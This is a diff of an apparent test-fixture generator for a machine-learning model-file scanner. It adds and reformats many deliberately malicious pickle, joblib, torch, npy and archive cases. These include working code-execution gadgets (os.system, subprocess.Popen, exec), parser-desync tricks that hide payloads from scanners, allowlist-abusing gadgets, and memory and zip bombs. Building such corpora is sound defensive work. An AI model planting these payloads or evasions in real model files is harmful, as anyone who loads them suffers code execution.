@@ -77,7 +77,9 @@ class Spec:
 SPECS: list[Spec] = []
 
 
-def _register(name: str, malicious: bool, technique: str, expect: str) -> Callable[[Builder], Builder]:
+def _register(
+    name: str, malicious: bool, technique: str, expect: str
+) -> Callable[[Builder], Builder]:
     def deco(fn: Builder) -> Builder:
         if any(s.name == name for s in SPECS):
             raise ValueError(f"duplicate case name {name}")
@@ -225,9 +227,9 @@ def _write(path: Path, data: bytes) -> Path:
 # Malicious: raw pickles assembled from opcodes.
 
 
-def _raw(name: str, technique: str, *, ext: str = ".pkl", valid: bool = True) -> Callable[
-    [Callable[[_Ctx, str], bytes]], Callable[[_Ctx, str], bytes]
-]:
+def _raw(
+    name: str, technique: str, *, ext: str = ".pkl", valid: bool = True
+) -> Callable[[Callable[[_Ctx, str], bytes]], Callable[[_Ctx, str], bytes]]:
     """Register a raw-pickle case from a function returning its bytes."""
 
     def deco(make: Callable[[_Ctx, str], bytes]) -> Callable[[_Ctx, str], bytes]:
@@ -269,7 +271,10 @@ def _p4_exec(ctx: _Ctx, n: str) -> bytes:
     return _frame(4, _r(_sg("builtins", "exec"), _s(ctx.pycode(n), 4)) + STOP)
 
 
-@_raw("p5-getattr-import-module-chain", "protocol 5 getattr(importlib.import_module('os'), 'system')(cmd)")
+@_raw(
+    "p5-getattr-import-module-chain",
+    "protocol 5 getattr(importlib.import_module('os'), 'system')(cmd)",
+)
 def _p5_chain(ctx: _Ctx, n: str) -> bytes:
     mod = _r(_sg("importlib", "import_module"), _s("os", 4))
     fn = _r(_sg("builtins", "getattr"), mod, _s("system", 4))
@@ -389,50 +394,71 @@ def _pickle_loads(ctx: _Ctx, n: str) -> bytes:
     return _p(3) + _r(_g("pickle", "loads"), _b(_inner_pickle(ctx, n))) + STOP
 
 
-@_raw("numpy-runstring", "numpy.testing._private.utils.runstring(source, {}) (exec gadget in numpy)")
+@_raw(
+    "numpy-runstring", "numpy.testing._private.utils.runstring(source, {}) (exec gadget in numpy)"
+)
 def _runstring(ctx: _Ctx, n: str) -> bytes:
     fn = _g("numpy.testing._private.utils", "runstring")
     return _p(2) + _r(fn, _s(ctx.pycode(n)), b"}") + STOP
 
 
-@_raw("torch-reexport-os-system-p4", "protocol 4 dotted name: module torch.serialization, name os.system")
+@_raw(
+    "torch-reexport-os-system-p4",
+    "protocol 4 dotted name: module torch.serialization, name os.system",
+)
 def _reexport_system(ctx: _Ctx, n: str) -> bytes:
     return _p(4) + _r(_sg("torch.serialization", "os.system"), _s(ctx.cmd(n), 4)) + STOP
 
 
-@_raw("torch-reexport-pickle-loads-p4", "protocol 4 dotted name: torch.serialization + pickle.loads")
+@_raw(
+    "torch-reexport-pickle-loads-p4", "protocol 4 dotted name: torch.serialization + pickle.loads"
+)
 def _reexport_loads(ctx: _Ctx, n: str) -> bytes:
     fn = _sg("torch.serialization", "pickle.loads")
     return _p(4) + _r(fn, _b(_inner_pickle(ctx, n))) + STOP
 
 
-@_raw("torch-import-dotted-name-gadget", "torch._utils._import_dotted_name('os.system') returns a callable")
+@_raw(
+    "torch-import-dotted-name-gadget",
+    "torch._utils._import_dotted_name('os.system') returns a callable",
+)
 def _dotted_gadget(ctx: _Ctx, n: str) -> bytes:
     fn = _r(_g("torch._utils", "_import_dotted_name"), _s("os.system"))
     return _p(2) + fn + _t(_s(ctx.cmd(n))) + b"R" + STOP
 
 
-@_raw("torch-fx-reduce-graph-module", "torch.fx.graph_module.reduce_graph_module execs its import block")
+@_raw(
+    "torch-fx-reduce-graph-module",
+    "torch.fx.graph_module.reduce_graph_module execs its import block",
+)
 def _fx(ctx: _Ctx, n: str) -> bytes:
     body = _dct(_s("_code"), _s("def forward(self):\n    return None\n"))
     fn = _g("torch.fx.graph_module", "reduce_graph_module")
     return _p(2) + _r(fn, body, _s(ctx.pycode(n) + "\n")) + STOP
 
 
-@_raw("torch-rebuild-from-type-v2-gadget", "allowlisted torch._tensor._rebuild_from_type_v2 calls pathlib.Path.touch")
+@_raw(
+    "torch-rebuild-from-type-v2-gadget",
+    "allowlisted torch._tensor._rebuild_from_type_v2 calls pathlib.Path.touch",
+)
 def _rebuild_gadget(ctx: _Ctx, n: str) -> bytes:
     path = _r(_sg("pathlib", "PosixPath"), _s(str(ctx.marker(n)), 4))
     args = (_sg("pathlib", "Path.touch"), _sg("torch", "Tensor"), _t(path), b"}")
     return _p(4) + _r(_sg("torch._tensor", "_rebuild_from_type_v2"), *args) + STOP
 
 
-@_raw("copyreg-reconstructor-init-gadget", "allowlisted copyreg._reconstructor runs logging.FileHandler.__init__(path)")
+@_raw(
+    "copyreg-reconstructor-init-gadget",
+    "allowlisted copyreg._reconstructor runs logging.FileHandler.__init__(path)",
+)
 def _reconstructor_init(ctx: _Ctx, n: str) -> bytes:
     cls = _g("logging", "FileHandler")
     return _p(2) + _r(_g("copyreg", "_reconstructor"), cls, cls, _s(str(ctx.marker(n)))) + STOP
 
 
-@_raw("copyreg-reconstructor-popen", "copyreg._reconstructor(Popen, Popen, argv) runs Popen.__init__")
+@_raw(
+    "copyreg-reconstructor-popen", "copyreg._reconstructor(Popen, Popen, argv) runs Popen.__init__"
+)
 def _reconstructor_popen(ctx: _Ctx, n: str) -> bytes:
     cls = _g("subprocess", "Popen")
     argv = _lst(*[_s(a) for a in ctx.argv(n)])
@@ -446,14 +472,21 @@ def _sg_memo(ctx: _Ctx, n: str) -> bytes:
     return _p(4) + body + STOP
 
 
-@_raw("stack-global-computed-operands", "STACK_GLOBAL operands computed by allowlisted codecs.encode (rot13)")
+@_raw(
+    "stack-global-computed-operands",
+    "STACK_GLOBAL operands computed by allowlisted codecs.encode (rot13)",
+)
 def _sg_computed(ctx: _Ctx, n: str) -> bytes:
     mod = _r(_sg("_codecs", "encode"), _s("bf", 4), _s("rot13", 4))
     name = _r(_sg("_codecs", "encode"), _s("flfgrz", 4), _s("rot13", 4))
     return _p(4) + mod + name + b"\x93" + _t(_s(ctx.cmd(n), 4)) + b"R" + STOP
 
 
-@_raw("memo-overwrite", "memo slot first holds OrderedDict, is overwritten with posix.system, then called")
+@_raw(
+    "memo-overwrite",
+    "memo slot first holds OrderedDict, is overwritten with posix.system, then called",
+    valid=False,  # pickletools.dis refuses a redefined memo key; the unpickler does not
+)
 def _memo_overwrite(ctx: _Ctx, n: str) -> bytes:
     body = _g("collections", "OrderedDict") + b"q\x00" + b"0"
     body += _g("posix", "system") + b"q\x00" + b"0" + b"h\x00" + _t(_s(ctx.cmd(n))) + b"R"
@@ -476,7 +509,9 @@ def _newobj_ex(ctx: _Ctx, n: str) -> bytes:
     return _p(4) + _sg("subprocess", "Popen") + _t(argv) + b"}\x92" + STOP
 
 
-@_raw("build-monkeypatch-functional-relu", "BUILD setattr on module torch.nn.functional: relu := gelu")
+@_raw(
+    "build-monkeypatch-functional-relu", "BUILD setattr on module torch.nn.functional: relu := gelu"
+)
 def _build_relu(ctx: _Ctx, n: str) -> bytes:
     state = _t(b"N", _dct(_s("relu"), _g("torch.nn.functional", "gelu")))
     return _p(2) + _g("torch.nn", "functional") + state + b"b" + STOP
@@ -529,7 +564,9 @@ def _joblib_gadget(ctx: _Ctx, n: str) -> bytes:
     return _p(2) + _r(_g("joblib", "load"), _s(str(target))) + STOP
 
 
-@_raw("stdlib-osx-support-read-output", "stdlib gadget _osx_support._read_output runs a shell command")
+@_raw(
+    "stdlib-osx-support-read-output", "stdlib gadget _osx_support._read_output runs a shell command"
+)
 def _osx(ctx: _Ctx, n: str) -> bytes:
     return _p(2) + _r(_g("_osx_support", "_read_output"), _s(ctx.cmd(n))) + STOP
 
@@ -539,9 +576,14 @@ def _imaplib(ctx: _Ctx, n: str) -> bytes:
     return _p(2) + _r(_g("imaplib", "IMAP4_stream"), _s(ctx.cmd(n))) + STOP
 
 
-@_raw("stdlib-logging-dictconfig", "stdlib gadget logging.config.dictConfig with a '()' factory subprocess.Popen")
+@_raw(
+    "stdlib-logging-dictconfig",
+    "stdlib gadget logging.config.dictConfig with a '()' factory subprocess.Popen",
+)
 def _dictconfig(ctx: _Ctx, n: str) -> bytes:
-    handler = _dct(_s("()"), _s("subprocess.Popen"), _s("args"), _lst(*[_s(a) for a in ctx.argv(n)]))
+    handler = _dct(
+        _s("()"), _s("subprocess.Popen"), _s("args"), _lst(*[_s(a) for a in ctx.argv(n)])
+    )
     cfg = _dct(_s("version"), b"K\x01", _s("handlers"), _dct(_s("h"), handler))
     return _p(2) + _r(_g("logging.config", "dictConfig"), cfg) + STOP
 
@@ -562,7 +604,11 @@ def _pydoc(ctx: _Ctx, n: str) -> bytes:
     return _p(2) + _r(_g("pydoc", "pipepager"), _s("x"), _s(ctx.cmd(n))) + STOP
 
 
-@_raw("broken-pickle-no-stop", "nullifAI: payload then garbage, no STOP (loader runs it, then fails)", valid=False)
+@_raw(
+    "broken-pickle-no-stop",
+    "nullifAI: payload then garbage, no STOP (loader runs it, then fails)",
+    valid=False,
+)
 def _broken(ctx: _Ctx, n: str) -> bytes:
     return _p(2) + _r(_g("posix", "system"), _s(ctx.cmd(n))) + b"\xff\xfe garbage \x00\x01"
 
@@ -572,14 +618,20 @@ def _stop_junk(ctx: _Ctx, n: str) -> bytes:
     return _inner_pickle(ctx, n) + b"\x00\x13\x37 trailing junk " * 8
 
 
-@_raw("benign-then-malicious-pickle", "benign pickle followed by a second, malicious pickle", valid=False)
+@_raw(
+    "benign-then-malicious-pickle",
+    "benign pickle followed by a second, malicious pickle",
+    valid=False,
+)
 def _two(ctx: _Ctx, n: str) -> bytes:
     return pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + _inner_pickle(ctx, n)
 
 
 @_raw("payload-then-huge-binbytes8", "payload then BINBYTES8 claiming 2**60 bytes", valid=False)
 def _huge_len(ctx: _Ctx, n: str) -> bytes:
-    return _p(4) + _r(_sg("posix", "system"), _s(ctx.cmd(n), 4)) + b"\x8e" + struct.pack("<Q", 1 << 60)
+    return (
+        _p(4) + _r(_sg("posix", "system"), _s(ctx.cmd(n), 4)) + b"\x8e" + struct.pack("<Q", 1 << 60)
+    )
 
 
 @_raw("raw-pickle-named-pt", "raw (non-zip) pickle named model.pt", ext=".pt")
@@ -606,7 +658,9 @@ def _small_state_dict(ctx: _Ctx) -> dict[str, Any]:
     def make() -> dict[str, Any]:
         torch = _torch()
         torch.manual_seed(0)
-        return torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2)).state_dict()
+        return torch.nn.Sequential(
+            torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2)
+        ).state_dict()
 
     return ctx.cached("small_sd", make)  # type: ignore[no-any-return]
 
@@ -652,7 +706,10 @@ def _zip_entries(data: bytes) -> list[tuple[str, bytes]]:
 # Malicious: torch formats.
 
 
-@_mal("torch-zip-reduce", "torch.save zip of a checkpoint holding an object with a malicious __reduce__")
+@_mal(
+    "torch-zip-reduce",
+    "torch.save zip of a checkpoint holding an object with a malicious __reduce__",
+)
 def _torch_zip(ctx: _Ctx, n: str) -> Path:
     return _write(ctx.mal / f"{n}.pt", _torch_evil_bytes(ctx, n))
 
@@ -674,7 +731,10 @@ def _torch_bad_crc(ctx: _Ctx, n: str) -> Path:
     return _write(ctx.mal / f"{n}.pt", bytes(data))
 
 
-@_mal("torch-zip-name-mismatch", "torch zip: local header names data.pkl differently from the central directory")
+@_mal(
+    "torch-zip-name-mismatch",
+    "torch zip: local header names data.pkl differently from the central directory",
+)
 def _torch_name_mismatch(ctx: _Ctx, n: str) -> Path:
     data = bytearray(_torch_evil_bytes(ctx, n))
     zf = zipfile.ZipFile(io.BytesIO(bytes(data)))
@@ -693,14 +753,20 @@ def _torch_second_pkl(ctx: _Ctx, n: str) -> Path:
     return _write(ctx.mal / f"{n}.pt", _rezip(entries))
 
 
-@_mal("torch-zip-duplicate-data-pkl", "torch zip with two archive/data.pkl members, the second malicious")
+@_mal(
+    "torch-zip-duplicate-data-pkl",
+    "torch zip with two archive/data.pkl members, the second malicious",
+)
 def _torch_dup(ctx: _Ctx, n: str) -> Path:
     entries = _zip_entries(_torch_bytes(_small_state_dict(ctx)))
     entries.append(("archive/data.pkl", _inner_pickle(ctx, n)))
     return _write(ctx.mal / f"{n}.pt", _rezip(entries))
 
 
-@_mal("torch-zip-first-record-prefix", "torch zip whose first entry is evil/data.pkl; torch reads that record")
+@_mal(
+    "torch-zip-first-record-prefix",
+    "torch zip whose first entry is evil/data.pkl; torch reads that record",
+)
 def _torch_prefix(ctx: _Ctx, n: str) -> Path:
     entries = _zip_entries(_torch_bytes(_small_state_dict(ctx)))
     return _write(ctx.mal / f"{n}.pt", _rezip([("evil/data.pkl", _inner_pickle(ctx, n)), *entries]))
@@ -719,10 +785,17 @@ def _torch_legacy(ctx: _Ctx, n: str) -> Path:
 
 
 _LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
-_SYS_INFO = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
+_SYS_INFO = {
+    "protocol_version": 1001,
+    "little_endian": True,
+    "type_sizes": {"short": 2, "int": 4, "long": 4},
+}
 
 
-@_mal("torch-legacy-raw-storage-keys", "legacy raw torch stream whose 5th pickle (storage keys) is malicious")
+@_mal(
+    "torch-legacy-raw-storage-keys",
+    "legacy raw torch stream whose 5th pickle (storage keys) is malicious",
+)
 def _torch_legacy_keys(ctx: _Ctx, n: str) -> Path:
     parts = [
         pickle.dumps(_LEGACY_MAGIC, protocol=2),
@@ -759,19 +832,28 @@ def _legacy_benign_pickle() -> bytes:
     return _checked(_p(2) + b"}" + _s("weight") + _s("0") + b"Qs" + STOP)
 
 
-@_mal("torch-legacy-tar-pickle", "legacy torch tar layout (sys_info/pickle/storages/tensors), payload in 'pickle'")
+@_mal(
+    "torch-legacy-tar-pickle",
+    "legacy torch tar layout (sys_info/pickle/storages/tensors), payload in 'pickle'",
+)
 def _legacy_tar_pickle(ctx: _Ctx, n: str) -> Path:
     data = _legacy_tar(_inner_pickle(ctx, n), pickle.dumps([], protocol=2))
     return _write(ctx.mal / f"{n}.pt", data)
 
 
-@_mal("torch-legacy-tar-storages", "legacy torch tar layout, payload in the storage-views pickle of 'storages'")
+@_mal(
+    "torch-legacy-tar-storages",
+    "legacy torch tar layout, payload in the storage-views pickle of 'storages'",
+)
 def _legacy_tar_storages(ctx: _Ctx, n: str) -> Path:
     data = _legacy_tar(_legacy_benign_pickle(), _inner_pickle(ctx, n))
     return _write(ctx.mal / f"{n}.pt", data)
 
 
-@_mal("nn-module-forward-hook", "whole nn.Linear saved with a forward hook functools.partial(os.system, cmd)")
+@_mal(
+    "nn-module-forward-hook",
+    "whole nn.Linear saved with a forward hook functools.partial(os.system, cmd)",
+)
 def _forward_hook(ctx: _Ctx, n: str) -> Path:
     import functools
 
@@ -846,7 +928,10 @@ _joblib_case("joblib-xz", ("xz", 3), "xz-compressed")
 _joblib_case("joblib-lz4", ("lz4", 3), "lz4-frame compressed")
 
 
-@_mal("sklearn-pipeline-evil-step", "joblib dump of a fitted sklearn Pipeline with a poisoned extra attribute")
+@_mal(
+    "sklearn-pipeline-evil-step",
+    "joblib dump of a fitted sklearn Pipeline with a poisoned extra attribute",
+)
 def _sk_evil(ctx: _Ctx, n: str) -> Path:
     import joblib
 
@@ -879,21 +964,30 @@ def _hf_poisoned(ctx: _Ctx, n: str, filename: str, obj: Any) -> Path:
     return dst
 
 
-@_mal("hf-trainer-optimizer-poisoned", "Trainer checkpoint folder whose optimizer.pt carries a payload")
+@_mal(
+    "hf-trainer-optimizer-poisoned",
+    "Trainer checkpoint folder whose optimizer.pt carries a payload",
+)
 def _hf_opt(ctx: _Ctx, n: str) -> Path:
     sd = copy.deepcopy(_trainer_checkpoint(ctx)["optimizer"])
     sd["param_groups"][0]["lr_hook"] = _Reduce(subprocess.Popen, ctx.argv(n))
     return _hf_poisoned(ctx, n, "optimizer.pt", sd)
 
 
-@_mal("hf-trainer-rng-state-poisoned", "Trainer checkpoint folder whose rng_state.pth carries a payload")
+@_mal(
+    "hf-trainer-rng-state-poisoned",
+    "Trainer checkpoint folder whose rng_state.pth carries a payload",
+)
 def _hf_rng(ctx: _Ctx, n: str) -> Path:
     state = dict(_trainer_checkpoint(ctx)["rng"])
     state["cpu"] = _evil(ctx, n)
     return _hf_poisoned(ctx, n, "rng_state.pth", state)
 
 
-@_mal("hf-trainer-training-args-poisoned", "Trainer checkpoint folder whose training_args.bin carries exec()")
+@_mal(
+    "hf-trainer-training-args-poisoned",
+    "Trainer checkpoint folder whose training_args.bin carries exec()",
+)
 def _hf_args(ctx: _Ctx, n: str) -> Path:
     import builtins
 
@@ -902,14 +996,20 @@ def _hf_args(ctx: _Ctx, n: str) -> Path:
     return _hf_poisoned(ctx, n, "training_args.bin", args)
 
 
-@_mal("hf-trainer-scheduler-poisoned", "Trainer checkpoint folder whose scheduler.pt carries a payload")
+@_mal(
+    "hf-trainer-scheduler-poisoned",
+    "Trainer checkpoint folder whose scheduler.pt carries a payload",
+)
 def _hf_sched(ctx: _Ctx, n: str) -> Path:
     sd = dict(_trainer_checkpoint(ctx)["scheduler"])
     sd["lr_lambdas"] = [_evil(ctx, n)]
     return _hf_poisoned(ctx, n, "scheduler.pt", sd)
 
 
-@_mal("hf-bin-weights-poisoned", "HF model folder (config.json + pytorch_model.bin) whose weights file has a payload")
+@_mal(
+    "hf-bin-weights-poisoned",
+    "HF model folder (config.json + pytorch_model.bin) whose weights file has a payload",
+)
 def _hf_bin_evil(ctx: _Ctx, n: str) -> Path:
     model = _gpt2(ctx)
     dst = ctx.mal / n
@@ -921,7 +1021,10 @@ def _hf_bin_evil(ctx: _Ctx, n: str) -> Path:
     return dst
 
 
-@_mal("hf-bin-raw-pickle", "HF model folder whose pytorch_model.bin is a raw malicious pickle, not a zip")
+@_mal(
+    "hf-bin-raw-pickle",
+    "HF model folder whose pytorch_model.bin is a raw malicious pickle, not a zip",
+)
 def _hf_bin_raw(ctx: _Ctx, n: str) -> Path:
     dst = ctx.mal / n
     dst.mkdir()
@@ -930,7 +1033,10 @@ def _hf_bin_raw(ctx: _Ctx, n: str) -> Path:
     return dst
 
 
-@_mal("dcp-metadata-poisoned", "torch.distributed.checkpoint folder whose .metadata is a malicious raw pickle")
+@_mal(
+    "dcp-metadata-poisoned",
+    "torch.distributed.checkpoint folder whose .metadata is a malicious raw pickle",
+)
 def _dcp_evil(ctx: _Ctx, n: str) -> Path:
     src = _dcp_folder(ctx)
     dst = ctx.mal / n
@@ -957,7 +1063,10 @@ def _bz(ctx: _Ctx, n: str) -> Path:
 
 @_mal("zip-wrapped-pickle", "plain zip holding model.pkl (malicious pickle)")
 def _zip_wrap(ctx: _Ctx, n: str) -> Path:
-    return _write(ctx.mal / f"{n}.zip", _rezip([("model/model.pkl", _inner_pickle(ctx, n))], zipfile.ZIP_DEFLATED))
+    return _write(
+        ctx.mal / f"{n}.zip",
+        _rezip([("model/model.pkl", _inner_pickle(ctx, n))], zipfile.ZIP_DEFLATED),
+    )
 
 
 def _tar_bytes(entries: list[tuple[str, bytes]], mode: str = "w") -> bytes:
@@ -978,7 +1087,9 @@ def _tar_wrap(ctx: _Ctx, n: str) -> Path:
 
 @_mal("targz-wrapped-torch-zip", "tar.gz holding a malicious torch zip")
 def _targz(ctx: _Ctx, n: str) -> Path:
-    return _write(ctx.mal / f"{n}.tar.gz", _tar_bytes([("ckpt/model.pt", _torch_evil_bytes(ctx, n))], "w:gz"))
+    return _write(
+        ctx.mal / f"{n}.tar.gz", _tar_bytes([("ckpt/model.pt", _torch_evil_bytes(ctx, n))], "w:gz")
+    )
 
 
 @_mal("zip-in-zip-torch", "zip holding a zip holding a malicious torch zip")
@@ -999,10 +1110,201 @@ def _sevenzip(ctx: _Ctx, n: str) -> Path:
 
 
 # ---------------------------------------------------------------------------------------
+# Malicious: parser desyncs (the scanner and the real loader read different bytes) and
+# gadgets hidden behind allowlisted callables.
+
+
+def _no_proto_pickle(ctx: _Ctx, n: str) -> bytes:
+    """STACK_GLOBAL + REDUCE with no PROTO opcode: pickle.load accepts it; it starts with 'X'."""
+    return _checked(
+        _s("posix", 1) + _s("system", 1) + b"\x93" + _t(_s(ctx.cmd(n), 1)) + b"R" + STOP
+    )
+
+
+@_mal(
+    "raw-pickle-without-proto",
+    "raw pickle with no PROTO opcode, starting with BINUNICODE (torch.load runs it)",
+)
+def _no_proto_raw(ctx: _Ctx, n: str) -> Path:
+    return _write(ctx.mal / f"{n}.pt", _no_proto_pickle(ctx, n))
+
+
+@_mal(
+    "gzip-pickle-without-proto",
+    "gzip (joblib.load) of a pickle with no PROTO opcode starting with BINUNICODE",
+)
+def _no_proto_gz(ctx: _Ctx, n: str) -> Path:
+    return _write(ctx.mal / f"{n}.joblib", gzip.compress(_no_proto_pickle(ctx, n), mtime=0))
+
+
+def _joblib_raw_evil(ctx: _Ctx, n: str) -> tuple[bytes, int]:
+    """An uncompressed joblib pickle with a payload, and the offset where the payload starts."""
+    import joblib
+
+    buf = io.BytesIO()
+    joblib.dump(_joblib_evil(ctx, n), buf)
+    data = buf.getvalue()
+    return data, data.index(b"posix")
+
+
+def _multi_member(name: str, compress: Callable[[bytes], bytes], label: str) -> None:
+    @_mal(name, f"joblib file as two concatenated {label} members; the payload is in the second")
+    def build(ctx: _Ctx, n: str) -> Path:
+        data, cut = _joblib_raw_evil(ctx, n)
+        return _write(
+            ctx.mal / f"{n}.joblib", compress(data[: cut - 8]) + compress(data[cut - 8 :])
+        )
+
+
+def _lz4(data: bytes) -> bytes:
+    import lz4.frame
+
+    return lz4.frame.compress(data)  # type: ignore[no-any-return]
+
+
+_multi_member("joblib-bz2-multistream", bz2.compress, "bz2")
+_multi_member("joblib-xz-multistream", lzma.compress, "xz")
+_multi_member("joblib-lz4-multiframe", _lz4, "lz4")
+
+
+@_mal(
+    "gzip-multimember-pickle",
+    "pickle.load(gzip.open(...)) of two concatenated gzip members; the payload is in the second",
+)
+def _gzip_multi(ctx: _Ctx, n: str) -> Path:
+    data = pickle.dumps({"weights": [0.5] * 64, "hook": _evil(ctx, n)}, protocol=2)
+    cut = data.index(b"posix") - 8
+    parts = gzip.compress(data[:cut], mtime=0) + gzip.compress(data[cut:], mtime=0)
+    assert gzip.decompress(parts) == data
+    return _write(ctx.mal / f"{n}.pkl.gz", parts)
+
+
+def _wrapper_head(dtype: bytes, shape: int) -> bytes:
+    """{'a': NumpyArrayWrapper with BUILD state}, up to and including the wrapper's BUILD."""
+    state = _dct(
+        _s("subclass", 4),
+        _sg("numpy", "ndarray"),
+        _s("shape", 4),
+        _t(b"K" + bytes([shape])),
+        _s("order", 4),
+        _s("C", 4),
+        _s("dtype", 4),
+        dtype,
+        _s("allow_mmap", 4),
+        b"\x88",
+    )
+    wrapper = _sg("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
+    return _p(4) + b"}" + _s("a", 4) + wrapper
+
+
+@_mal(
+    "joblib-dtype-itemsize-desync",
+    "joblib array dtype 'float64': 64 bytes/item by its digits, 8 for joblib; payload in between",
+)
+def _joblib_desync_digits(ctx: _Ctx, n: str) -> Path:
+    items = 2
+    dtype = _r(_sg("numpy", "dtype"), _s("float64", 4), b"\x89", b"\x88")
+    dtype += (
+        _t(b"K\x03", _s("<", 4), b"NNN", b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", b"K\x00")
+        + b"b"
+    )
+    head = _wrapper_head(dtype, items)
+    payload = _r(_g("posix", "system"), _s(ctx.cmd(n), 4)) + b"0"
+    # joblib resumes after 8*items array bytes; a scanner trusting the digits after 64*items,
+    # inside the BINBYTES filler, where it finds SETITEM + STOP and stops looking.
+    gap = 64 * items - 8 * items - len(payload) - 5
+    filler = b"\x00" * gap + b"s." + b"\xff" * 8
+    body = struct.pack("<2d", 1.0, 2.0) + payload + _b(filler) + b"0s" + STOP
+    return _write(ctx.mal / f"{n}.joblib", head + body)
+
+
+@_mal(
+    "joblib-object-dtype-desync",
+    "joblib array dtype '|O8' without dtype state: an object array (unpickled) read as raw bytes",
+)
+def _joblib_desync_object(ctx: _Ctx, n: str) -> Path:
+    core = _p(2) + _r(_g("posix", "system"), _s(ctx.cmd(n))) + b"0"
+    pad = -(len(core) + 6 + 2) % 8
+    inner = core + b"X" + struct.pack("<I", pad) + b"x" * pad + b"0N."
+    assert len(inner) % 8 == 0
+    dtype = _r(_sg("numpy", "dtype"), _s("|O8", 4), b"\x89", b"\x88")
+    head = _wrapper_head(dtype, len(inner) // 8)
+    return _write(ctx.mal / f"{n}.joblib", head + _checked(inner) + b"s" + STOP)
+
+
+def _npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
+    text = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape!r}, }}"
+    text += " " * (-(10 + len(text) + 1) % 64) + "\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode("latin-1")
+
+
+def _npy_descr_case(name: str, descr: str) -> None:
+    @_mal(name, f".npy whose descr {descr!r} is an object dtype numpy.load unpickles")
+    def build(ctx: _Ctx, n: str) -> Path:
+        return _write(ctx.mal / f"{n}.npy", _npy_header(descr, (1,)) + _inner_pickle(ctx, n))
+
+
+_npy_descr_case("npy-descr-object-word", "object")
+_npy_descr_case("npy-descr-structured-string", "i4,O")
+_npy_descr_case("npy-descr-subarray-string", "(2,)O")
+
+
+@_mal(
+    "npz-lzma-member-object-array",
+    ".npz whose object-array member is LZMA-compressed (zipfile and numpy.load read it)",
+)
+def _npz_lzma(ctx: _Ctx, n: str) -> Path:
+    import numpy as np
+
+    buf = io.BytesIO()
+    np.save(buf, _object_array(ctx, n), allow_pickle=True)
+    return _write(ctx.mal / f"{n}.npz", _rezip([("meta.npy", buf.getvalue())], zipfile.ZIP_LZMA))
+
+
+@_mal(
+    "numpy-randomstate-ctor-gadget",
+    "allowlisted numpy.random._pickle.__randomstate_ctor calls its 2nd argument (a stdlib gadget)",
+)
+def _randomstate_gadget(ctx: _Ctx, n: str) -> Path:
+    fn = _g("numpy.random._pickle", "__randomstate_ctor")
+    data = _p(2) + _r(fn, _s(ctx.cmd(n)), _g("_osx_support", "_read_output")) + STOP
+    return _write(ctx.mal / f"{n}.pkl", _checked(data))
+
+
+@_mal(
+    "allowlisted-call-memory-bomb",
+    "only allowlisted calls: builtins.list(builtins.range(10**12)) exhausts memory at load",
+)
+def _memory_bomb(ctx: _Ctx, n: str) -> Path:
+    huge = b"\x8a\x06" + (10**12).to_bytes(6, "little")
+    data = _p(2) + _r(_g("__builtin__", "list"), _r(_g("__builtin__", "xrange"), huge)) + STOP
+    return _write(ctx.mal / f"{n}.pkl", _checked(data))
+
+
+@_mal(
+    "p2-py2-commands-getoutput",
+    "protocol 2 Python-2 module name commands.getoutput (mapped to subprocess)",
+)
+def _py2_commands(ctx: _Ctx, n: str) -> Path:
+    data = _p(2) + _r(_g("commands", "getoutput"), _s(ctx.cmd(n))) + STOP
+    return _write(ctx.mal / f"{n}.pkl", _checked(data))
+
+
+@_mal(
+    "import-side-effect-antigravity",
+    "GLOBAL of a module whose import has side effects (antigravity opens a browser)",
+)
+def _antigravity(ctx: _Ctx, n: str) -> Path:
+    return _write(ctx.mal / f"{n}.pkl", _checked(_p(2) + _g("antigravity", "geohash") + STOP))
+
+
+# ---------------------------------------------------------------------------------------
 # Malicious: hostile headers, bombs, limits.
 
 
-def _safetensors_raw(header: dict[str, Any] | bytes, buffer: bytes, length: int | None = None) -> bytes:
+def _safetensors_raw(
+    header: dict[str, Any] | bytes, buffer: bytes, length: int | None = None
+) -> bytes:
     import json
 
     text = header if isinstance(header, bytes) else json.dumps(header).encode()
@@ -1013,7 +1315,9 @@ def _safetensors_raw(header: dict[str, Any] | bytes, buffer: bytes, length: int 
 
 @_mal("safetensors-header-2pow62", "safetensors header length 2**62 (memory exhaustion)")
 def _st_huge(ctx: _Ctx, n: str) -> Path:
-    data = _safetensors_raw({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, b"\x00" * 8, 1 << 62)
+    data = _safetensors_raw(
+        {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, b"\x00" * 8, 1 << 62
+    )
     return _write(ctx.mal / f"{n}.safetensors", data)
 
 
@@ -1046,16 +1350,31 @@ def _zeros_deflated(size: int) -> tuple[bytes, int]:
 _BOMB = 96 << 20
 
 
-@_mal("zip-bomb", "zip member inflating 96 MiB of zeros from ~100 KB (error acceptable)", ERROR_OR_FLAGGED)
-def _zip_bomb(ctx: _Ctx, n: str) -> Path:
-    path = ctx.mal / f"{n}.zip"
+def _zip_with_bomb(path: Path, payload: bytes | None) -> Path:
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
-        zf.writestr("model.pkl", _inner_pickle(ctx, n))
         with zf.open("weights.bin", "w", force_zip64=True) as fh:
             chunk = bytes(1 << 20)
             for _ in range(_BOMB >> 20):
                 fh.write(chunk)
+        if payload is not None:
+            zf.writestr("model.pkl", payload)
     return path
+
+
+@_mal(
+    "zip-bomb",
+    "zip member inflating 96 MiB of zeros from ~100 KB (error acceptable)",
+    ERROR_OR_FLAGGED,
+)
+def _zip_bomb(ctx: _Ctx, n: str) -> Path:
+    return _zip_with_bomb(ctx.mal / f"{n}.zip", None)
+
+
+@_mal(
+    "zip-bomb-then-payload", "zip: a 96 MiB bomb member first, a malicious pickle member after it"
+)
+def _zip_bomb_payload(ctx: _Ctx, n: str) -> Path:
+    return _zip_with_bomb(ctx.mal / f"{n}.zip", _inner_pickle(ctx, n))
 
 
 @_mal("gzip-bomb", "gzip inflating 96 MiB of zeros (error acceptable)", ERROR_OR_FLAGGED)
